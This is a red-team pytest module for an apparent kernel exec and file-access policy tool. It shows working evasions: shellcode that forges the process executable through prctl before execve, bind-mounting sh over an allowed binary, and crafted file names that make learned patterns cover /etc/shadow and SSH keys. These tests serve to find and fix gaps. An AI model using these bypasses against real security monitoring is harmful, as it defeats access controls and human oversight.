"""Red-team attacks on learned path patterns, exec lineage and the kernel's counts (a helper's
run of 2026-12-06; findings in README "Known gaps" and the issue notes). Not collected by the
suites (no test_ prefix): run it by name, e.g. `pytest tests/kernel/attacks_patterns_lineage.py`
on the host, or in the VM with `tests/vm/run_vm.py` after copying it to a test_ name. The
learning attacks (literal * and ?, digits, secrets dirs, wildcard parents) are fixed and now
fail here; tests/unit/test_patterns.py keeps them refused.

Each test asserts what the attack was observed to do (a test that passes is a finding unless
its name says "holds"). Tests without the `deny` marker run on every backend (the host's
fallback reports opens, the VM's LSM/fmod_ret deny); `deny` ones only where execs get EPERM."""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import random
import shutil
import struct
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from corral.policy import patterns as pat
from corral.policy.baseline import Baseline
from corral.policy.lineage import caller_list
from corral.policy.patterns import matches

from .conftest import Agent, Collector, exec_child
from .test_patterns import open_all, reported, use_patterns

PYTHON = os.path.realpath(sys.executable)
SH = os.path.realpath(shutil.which("sh") or "/bin/sh")
TRUE = os.path.realpath(shutil.which("true") or "/bin/true")
NODE = os.path.realpath(shutil.which("node") or "/usr/bin/node")
LDSO = os.path.realpath("/lib64/ld-linux-x86-64.so.2")
_lists = iter(range(800_000, 900_000))


# ---- helpers ------------------------------------------------------------------------------------


def learn(dim: str, paths: list[str]) -> list[str]:
    """The patterns a baseline learns from these paths (as if observed in this order)."""
    b = Baseline("attack")
    for i, p in enumerate(paths):
        b._add_path(dim, p, 1000.0 + i, "learned", prefix=False)
    return sorted(b._paths[dim].patterns)


# ---- (a) learning: patterns wider than their evidence -------------------------------------------


def test_literal_star_names_learn_whole_directory_patterns() -> None:
    # a root agent creates two files named "*100" and "*200" in /etc while learning: the literal
    # '*' becomes a wildcard of the pattern, which covers every file directly in /etc
    assert learn("open", ["/etc/*100", "/etc/*200"]) == ["/etc/**"]
    assert matches("/etc/**", "/etc/shadow")
    # a directory named "*": every file two levels under /root (~/.ssh, ~/.aws)
    assert learn("open", ["/root/*/*100", "/root/*/*200"]) == ["/root/*/**"]
    assert matches("/root/*/**", "/root/.ssh/id_ed25519")
    assert matches("/root/*/**", "/root/.aws/credentials")
    # exec: every program in /usr/bin and /usr/sbin
    assert learn("exec", ["/usr/*/*100", "/usr/*/*200"]) == ["/usr/*/**"]
    assert matches("/usr/*/**", "/usr/bin/curl")


def test_exec_pattern_never_is_bypassed_through_a_wildcard_parent() -> None:
    # EXEC_PATTERN_NEVER looks at the new path's prefix; a '*' directory elsewhere matches them
    assert learn("exec", ["/var/*/*100", "/var/*/*200"]) == ["/var/*/**"]
    assert matches("/var/*/**", "/var/tmp/payload")
    assert learn("exec", ["/dev/*/k2j9x1ab", "/dev/*/z8y7w6vu"]) == ["/dev/*/????????"]
    assert matches("/dev/*/????????", "/dev/shm/payload1")
    assert learn("exec", ["/run/*/*/k2j9x1ab", "/run/*/*/z8y7w6vu"]) == ["/run/*/*/????????"]
    assert matches("/run/*/*/????????", "/run/user/0/payload1")


def test_literal_question_marks_widen_to_any_name_of_that_length() -> None:
    # one crafted file literally named "??????" is "a random word already shown": any 6-char
    # name of the same directory seen later (id_rsa) turns it into a pattern for all of them
    assert learn("open", ["/root/.ssh/??????", "/root/.ssh/id_rsa"]) == ["/root/.ssh/??????"]
    assert learn("open", ["/root/.ssh/??????", "/root/.ssh/config"]) == ["/root/.ssh/??????"]


def test_random_names_in_sensitive_directories_cover_their_files() -> None:
    # the collapse rule refuses /etc/ and /root/ (sensitive_prefixes); pattern learning does not
    assert learn("open", ["/etc/k2j9x1", "/etc/z8y7w6"]) == ["/etc/??????"]
    assert matches("/etc/??????", "/etc/shadow") and matches("/etc/??????", "/etc/passwd")
    assert learn("open", ["/root/.ssh/a1b2c3", "/root/.ssh/d4e5f6"]) == ["/root/.ssh/??????"]
    assert matches("/root/.ssh/??????", "/root/.ssh/id_rsa")


def test_learned_star_pattern_is_enforced_by_the_kernel(
    agent: Agent, collector: Collector, workdir: Path
) -> None:
    """End to end in the kernel: learned from "*100"/"*200", "passwd" and "shadow" beside them
    are not reported (alert)."""
    d = workdir / "etc"
    d.mkdir()
    for n in ("*100", "*200", "passwd", "shadow"):
        (d / n).write_text("x")
    globs = learn("open", [f"{d}/*100", f"{d}/*200"])
    assert globs == [f"{d}/**"]
    use_patterns(agent, "open", globs)
    agent.configure(open="alert")
    targets = [f"{d}/passwd", f"{d}/shadow"]
    res = agent.run(open_all(targets))
    assert res.value == ["opened", "opened"]
    assert reported(collector, res.pid, targets) == set()


# ---- (b) kernel matcher vs the reference --------------------------------------------------------


@pytest.fixture
def shortdir() -> Path:
    root = Path(tempfile.mkdtemp(prefix="cp", dir="/tmp"))
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize(("k", "n"), [(16, 100), (60, 150)])
def test_step_bound_denies_a_path_the_reference_allows(
    agent: Agent, collector: Collector, shortdir: Path, k: int, n: int
) -> None:
    glob = f"{shortdir}/x*{'a' * k}b"
    target = shortdir / ("x" + "a" * n + "b")
    target.write_text("x")
    assert matches(glob, str(target))
    use_patterns(agent, "open", [glob])
    agent.configure(open="alert")
    res = agent.run(open_all([str(target)]))
    # the reference allows it, the kernel reports it (would-deny; denied in enforce)
    assert reported(collector, res.pid, [str(target)]) == {str(target)}


def test_question_mark_is_a_byte_in_the_kernel_and_a_character_in_the_reference(
    agent: Agent, collector: Collector, shortdir: Path
) -> None:
    glob = f"{shortdir}/q??"
    two_bytes = shortdir / "q\u00e9"  # 'q' + one 2-byte character
    two_chars = shortdir / "q\u00e9\u00e9"  # 'q' + two 2-byte characters
    for p in (two_bytes, two_chars):
        p.write_text("x")
    assert not matches(glob, str(two_bytes)) and matches(glob, str(two_chars))
    use_patterns(agent, "open", [glob])
    agent.configure(open="alert")
    paths = [str(two_bytes), str(two_chars)]
    res = agent.run(open_all(paths))
    got = reported(collector, res.pid, paths)
    # kernel allows what the reference refuses, and refuses what it allows
    assert got == {str(two_chars)}, got


def test_fuzz_kernel_glob_against_the_reference(
    agent: Agent, collector: Collector, shortdir: Path
) -> None:
    rnd = random.Random(int(os.environ.get("ATTACK_SEED", "4242")))
    alphabet = "ab*?-"
    names: set[str] = set()
    while len(names) < 60:
        comps = [
            "".join(rnd.choice(alphabet) for _ in range(rnd.randint(1, 9)))
            for _ in range(rnd.randint(1, 2))
        ]
        names.add("/".join(comps))
    names_l = sorted(n for n in names if not any(m.startswith(n + "/") for m in names))
    paths = []
    for n in names_l:
        p = shortdir / n
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("x")
        paths.append(str(p))
    mismatches = []
    for _ in range(25):
        base = rnd.choice(names_l)
        glob = "".join(c if c == "/" or rnd.random() < 0.4 else rnd.choice("**??ab-") for c in base)
        g = f"{shortdir}/{glob}"
        try:
            pat.check_pattern(g)
        except pat.PatternError:
            continue
        use_patterns(agent, "open", [g])
        agent.configure(open="alert")
        res = agent.run(open_all(paths))
        want = {p for p in paths if not matches(g, p)}
        got = reported(collector, res.pid, paths)
        if got != want:
            mismatches.append((g, sorted(got - want), sorted(want - got)))
    assert not mismatches, mismatches


# ---- (c) exec lineage ---------------------------------------------------------------------------

_SC = bytes.fromhex(
    "4889fb4c8b2b4c8d73404d85ed741948c7c00b000000498b3e498b76080f054983c61049ffcdebe248c7c0"
    "9d00000048c7c723000000488b7330488b53084c8b53384d31c00f054989c4415448c7c001000000488b"
    "7b284889e648c7c2080000000f05415c48c7c03b000000488b7b10488b7318488b53200f0548f7d84889"
    "c748c7c0e70000000f05"
)  # /tmp/rt/sc2.S: munmap each range; prctl(PR_SET_MM, opt, a2, a4); write; execve; exit(errno)


def _layout() -> list[int]:
    with open("/proc/self/stat") as f:
        st = f.read()
    fields = st[st.rindex(")") + 2 :].split()

    def fld(n: int) -> int:
        return int(fields[n - 3])

    libc = ctypes.CDLL(None)
    libc.sbrk.restype = ctypes.c_void_p
    brk = libc.sbrk(0)
    head = [fld(26), fld(27), fld(45), fld(46), fld(47), brk, fld(28)]
    return [*head, fld(48), fld(49), fld(50), fld(51)]


def forge_and_exec(fake: str, path: str, argv: list[str], report_fd: int) -> None:
    """Makes fake this process's executable (prctl PR_SET_MM_MAP with exe_fd: CAP_SYS_ADMIN or
    CAP_CHECKPOINT_RESTORE in its user namespace), then execs path. Never returns."""
    exe = os.readlink("/proc/self/exe")
    ranges = []
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            if len(parts) >= 6 and parts[5] == exe:
                a, b = (int(x, 16) for x in parts[0].split("-"))
                ranges.append((a, b - a))
    fd = os.open(fake, os.O_RDONLY)
    m = mmap.mmap(-1, 1 << 16, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(m))
    m[: len(_SC)] = _SC
    off = 4096

    def put(b: bytes) -> int:
        nonlocal off
        addr = base + off
        m[off : off + len(b)] = b
        off += (len(b) + 15) & ~15
        return addr

    p_path = put(path.encode() + b"\0")
    p_args = [put(a.encode() + b"\0") for a in argv]
    p_argv = put(struct.pack(f"{len(p_args) + 1}Q", *p_args, 0))
    p_envp = put(struct.pack("Q", 0))
    mm = struct.pack("11QQII", *_layout(), 0, 0, fd)
    block = struct.pack("8Q", len(ranges), put(mm), p_path, p_argv, p_envp, report_fd, 14, len(mm))
    block += b"".join(struct.pack("2Q", a, n) for a, n in ranges)
    ctypes.CFUNCTYPE(None, ctypes.c_void_p)(base)(put(block))


def forged_child(
    fake: str, path: str, *args: str, unprivileged: bool = False
) -> Callable[[], None]:
    def body() -> None:
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, 1)
        os.dup2(devnull, 2)
        if unprivileged:  # nobody, in a user namespace of its own: no capability on the host
            os.setgroups([])
            os.setresgid(65534, 65534, 65534)
            os.setresuid(65534, 65534, 65534)
            if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:  # CLONE_NEWUSER
                os._exit(90)
        _r, w = os.pipe()
        forge_and_exec(fake, path, [path, *args], w)

    return body


def allow(
    agent: Agent, callers: dict[str, list[str]], anyone: list[str] = (), mode: str = "enforce"
) -> None:
    base = agent.lists["exec"]
    ids = {c: caller_list(base, i) for i, c in enumerate(sorted(callers), 1)}
    for caller, programs in callers.items():
        agent.kern.allow_paths("exec", ids[caller], programs)
    agent.kern.allow_paths("exec", base, list(anyone))
    agent.kern.set_callers(base, ids)
    agent.configure(exec=mode)


@pytest.mark.deny
def test_forged_exe_file_passes_as_an_allowed_caller(agent: Agent) -> None:
    # sh is in the baseline for node only; the agent's python may run true
    allow(agent, {PYTHON: [TRUE], NODE: [SH]})
    control = agent.run(exec_child(SH, "-c", "exit 42"))
    assert control.error == errno.EPERM, control  # lineage holds for an honest python
    res = agent.run(forged_child(NODE, SH, "-c", "exit 42"))
    assert res.exit_code == 42, res  # python, posing as node, ran sh


@pytest.mark.deny
def test_forged_exe_file_without_root_in_a_user_namespace(agent: Agent) -> None:
    allow(agent, {PYTHON: [TRUE], NODE: [SH]})
    res = agent.run(forged_child(NODE, SH, "-c", "exit 42", unprivileged=True))
    assert res.exit_code == 42, res


@pytest.mark.deny
def test_forged_exe_file_makes_the_action_count_as_another_executable(
    agent: Agent, collector: Collector
) -> None:
    allow(agent, {PYTHON: [SH]}, mode="alert")
    res = agent.run(forged_child(NODE, TRUE))
    assert res.exit_code == 0, res
    ev = collector.wait(lambda e: e.dimension == "exec" and e.path == TRUE and e.pid == res.pid)
    assert ev.caller == NODE and ev.exe_name == "node", ev


@pytest.mark.deny
def test_holds_ld_so_not_in_the_baseline(agent: Agent) -> None:
    allow(agent, {PYTHON: [SH], NODE: [SH]})
    res = agent.run(exec_child(LDSO, SH, "-c", "exit 42"))
    assert res.error == errno.EPERM, res


@pytest.mark.deny
def test_ld_so_allowed_for_python_runs_any_program_with_ld_so_as_caller(agent: Agent) -> None:
    # known gap (README): the loader maps the program, no exec check; lineage sees ld.so
    allow(agent, {PYTHON: [LDSO]})
    res = agent.run(exec_child(LDSO, SH, "-c", "exit 42"))
    assert res.exit_code == 42, res


@pytest.mark.deny
def test_holds_fexecve_and_memfd(agent: Agent, workdir: Path) -> None:
    allow(agent, {PYTHON: [TRUE], NODE: [SH]})

    def fexec() -> None:
        fd = os.open(SH, os.O_RDONLY)
        os.execve(fd, [SH, "-c", "exit 42"], {})

    assert agent.run(fexec).error == errno.EPERM

    def memfd() -> None:
        fd = os.memfd_create("true")
        with open(SH, "rb") as f:
            os.write(fd, f.read())
        os.execve(fd, [SH, "-c", "exit 42"], {})

    assert agent.run(memfd).error == errno.EPERM

    def self_exe() -> None:
        os.execv("/proc/self/exe", [PYTHON, "-c", "raise SystemExit(42)"])

    assert agent.run(self_exe).error == errno.EPERM  # python is not allowed for python


@pytest.mark.deny
def test_holds_script_interpreters_keep_the_script_as_caller(agent: Agent, workdir: Path) -> None:
    # a script allowed for python whose interpreter is env: env then runs sh (allowed for env
    # only when the script's own lineage says so)
    inner = workdir / "inner.sh"
    inner.write_text(f"#!{SH}\nexit 42\n")
    inner.chmod(0o755)
    outer = workdir / "outer"
    outer.write_text(f"#!{inner}\n")
    outer.chmod(0o755)
    allow(agent, {PYTHON: [str(outer)], str(outer): [str(inner)]})
    assert agent.run(exec_child(str(outer))).error == errno.EPERM  # sh not allowed for inner
    allow(agent, {PYTHON: [str(outer)], str(outer): [str(inner)], str(inner): [SH]})
    assert agent.run(exec_child(str(outer))).exit_code == 42


# ---- second round -------------------------------------------------------------------------------


def test_all_digit_names_learn_any_name_patterns() -> None:
    # a counter word becomes '*', which matches letters too: two numbered files in a directory
    # allow every file of it
    assert learn("open", ["/root/.ssh/100", "/root/.ssh/200"]) == ["/root/.ssh/*"]
    assert matches("/root/.ssh/*", "/root/.ssh/id_rsa")
    assert learn("exec", ["/usr/local/bin/100", "/usr/local/bin/200"]) == ["/usr/local/bin/*"]
    assert learn("exec", ["/opt/app/tool-100", "/opt/app/tool-200"]) == ["/opt/app/tool-*"]
    assert matches("/opt/app/tool-*", "/opt/app/tool-evil")


def _bind_over(src: str, dst: str, userns: bool) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount.argtypes = [
        ctypes.c_char_p,
        ctypes.c_char_p,
        ctypes.c_char_p,
        ctypes.c_ulong,
        ctypes.c_void_p,
    ]
    if userns:
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)
    flags = 0x00020000 | (0x10000000 if userns else 0)  # CLONE_NEWNS | CLONE_NEWUSER
    if libc.unshare(flags) != 0:
        os._exit(90)
    if libc.mount(None, b"/", None, 0x4000 | 0x40000, None) != 0:  # MS_REC | MS_PRIVATE
        os._exit(91)
    if libc.mount(src.encode(), dst.encode(), None, 0x1000, None) != 0:  # MS_BIND
        os._exit(92 + 0 * ctypes.get_errno())


@pytest.mark.deny
@pytest.mark.parametrize("userns", [False, True])
def test_bind_mount_runs_a_novel_program_under_an_allowed_name(
    agent: Agent, workdir: Path, userns: bool
) -> None:
    allowed = workdir / "allowed-tool"
    shutil.copy(TRUE, allowed)
    allowed.chmod(0o755)
    workdir.chmod(0o755)
    allow(agent, {PYTHON: [str(allowed)]})
    assert agent.run(exec_child(SH, "-c", "exit 42")).error == errno.EPERM  # control

    def body() -> None:
        _bind_over(SH, str(allowed), userns)
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, 1)
        os.dup2(devnull, 2)
        os.execv(str(allowed), [str(allowed), "-c", "exit 42"])

    res = agent.run(body)
    assert res.exit_code == 42, res  # sh ran as "allowed-tool"


def test_counts_a_flood_evicts_pending_repeats(
    agent: Agent, collector: Collector, workdir: Path
) -> None:
    """(d) seen_path is one LRU for the node: distinct objects, each seen more than once, push
    out another object's entry and the repeats it was holding."""
    target = workdir / "target"
    target.write_text("x")
    flood = workdir / "flood"
    flood.mkdir()
    names = [str(flood / str(i)) for i in range(10000)]
    for n in names:
        Path(n).write_text("x")
    agent.configure(rate_limit=20, open="alert")

    def body() -> None:
        for _ in range(50):
            open(target, "rb").close()
        for n in names:
            for _ in range(3):
                open(n, "rb").close()
        time.sleep(3.5)
        open(target, "rb").close()

    res = agent.run(body)
    evs = [e for e in collector.drain(1.0) if e.pid == res.pid and e.path == str(target)]
    assert [e.repeats for e in evs] == [0, 0], evs  # 49 repeats lost (control on the host: 49)


@pytest.mark.deny
def test_holds_exec_round_after_a_too_long_script(
    agent: Agent, collector: Collector, workdir: Path
) -> None:
    """A script whose path is too long is not recorded in exec_rounds: its interpreter's round
    reads whatever an earlier execve with the same struct linux_binprm address left there."""
    s1 = workdir / "s1.sh"
    s1.write_text(f"#!{SH}\nexit 0\n")
    s1.chmod(0o755)
    deep = workdir / ("d" * 200) / ("e" * 40)
    deep.mkdir(parents=True)
    long_script = deep / "long.sh"
    long_script.write_text(f"#!{SH}\nexit 0\n")
    long_script.chmod(0o755)
    assert len(str(long_script)) > 251
    callers = []
    for _ in range(5):
        agent.lists["exec"] = next(_lists)  # a fresh list: no report suppressed by the last
        allow(agent, {PYTHON: [TRUE], TRUE: [SH]}, mode="alert")
        assert agent.run(exec_child(TRUE)).exit_code == 0  # leaves TRUE in exec_rounds
        res = agent.run(exec_child(str(long_script)))
        assert res.exit_code == 0, res
        evs = [e for e in collector.drain(0.5) if e.pid == res.pid and e.dimension == "exec"]
        callers.append(sorted((e.path, e.caller, e.verdict, e.flags) for e in evs))
    # expected: sh judged with no caller (nocaller) and reported would-deny each time
    stale = [c for c in callers if not any(p == SH and "nocaller" in f for p, _, _, f in c)]
    assert not stale, callers
